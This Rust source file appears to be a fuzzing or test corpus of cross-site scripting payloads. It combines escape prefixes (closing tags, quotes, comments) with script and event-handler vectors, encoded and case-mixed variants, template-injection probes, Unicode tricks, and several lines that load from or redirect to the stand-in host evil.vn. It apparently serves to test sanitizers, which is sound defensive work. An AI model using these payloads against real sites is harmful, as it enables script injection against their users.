//! Text that is markup, script or a way out of one, in many writings.

/// What an attacker wants to run.
const ACTIONS: [&str; 8] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import'//evil.vn'</style>",
    "<base href=//evil.vn>",
    "<meta http-equiv=refresh content=0;url=//evil.vn>",
];

/// Where text may stand, and how to get out of there.
const WAYS_OUT: [&str; 16] = [
    "",
    "\">",
    "'>",
    ">",
    "-->",
    "--!>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</p></main>",
    "]]>",
    "</option></select>",
    "</noscript>",
    "</template>",
    "<!--",
];

/// Payloads that are not made of the two above.
const OTHERS: [&str; 64] = [
    "\" onmouseover=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "\" autofocus onfocus=alert(1) \"",
    "x\" style=\"background:url(javascript:alert(1))",
    "` onclick=alert(1) `",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;prompt(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)",
    "&#0000060script>",
    "&lt;/textarea&gt;<b>x",
    "&lt/title&gt",
    "&amp;lt;script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3e",
    "\\\";alert(1);//",
    "\\\\\";alert(1)//",
    "';alert(1)//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "</script\t>",
    "</script/>",
    "</SCRIPT >",
    "</ScRiPt\u{c}>",
    "<!--<script>",
    "<!--<script></script>",
    "<script",
    "<",
    ">",
    "\"",
    "'",
    "&",
    "&#",
    "<>",
    "</",
    "</>",
    "<!",
    "<!DOCTYPE html>",
    "<?xml version=\"1.0\"?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x/onclick=alert(1)>",
    "<svg><script>alert(1)",
    "<math><mtext></mtext><mglyph><style><!--</style><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.vn>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<xmp>",
    "＜script＞alert(1)＜/script＞",
    "\u{2028}alert(1)\u{2029}",
    "<scr\u{ad}ipt>alert(1)</script>",
    "<script>\u{feff}alert(1)</script>",
    "\u{202e}>tpircs<",
];

/// The whole corpus.
pub fn all() -> Vec<String> {
    let composed = WAYS_OUT
        .iter()
        .flat_map(|out| ACTIONS.iter().map(move |act| format!("{out}{act}")));
    let cased = ACTIONS.iter().map(|act| mixed(act));
    let entities = ACTIONS
        .iter()
        .map(|act| act.replace('<', "&lt;").replace('>', "&gt;"));
    composed
        .chain(cased)
        .chain(entities)
        .chain(OTHERS.map(str::to_owned))
        .collect()
}

fn mixed(text: &str) -> String {
    let change = |(at, c): (usize, char)| {
        if at % 2 == 0 {
            c.to_ascii_uppercase()
        } else {
            c
        }
    };
    text.chars().enumerate().map(change).collect()
}

#[test]
fn the_corpus_is_large_and_has_no_payload_twice() {
    let all = all();
    let different: std::collections::BTreeSet<&String> = all.iter().collect();
    assert_eq!(different.len(), all.len());
    assert!(all.len() >= 200, "{}", all.len());
}
